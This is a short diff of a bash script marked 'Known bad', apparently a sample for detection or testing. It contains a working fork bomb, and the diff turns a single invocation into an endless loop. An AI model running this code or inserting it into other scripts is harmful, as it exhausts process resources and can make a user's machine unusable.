@@ -1,5 +1,6 @@
 #!/usr/bin/env bash
-# Known bad: forks until there is no room for one process more.
+# Known bad: forks for ever, each child as well.
 bomb() { bomb | bomb & }
-bomb
-wait
+while true; do
+    bomb
+done
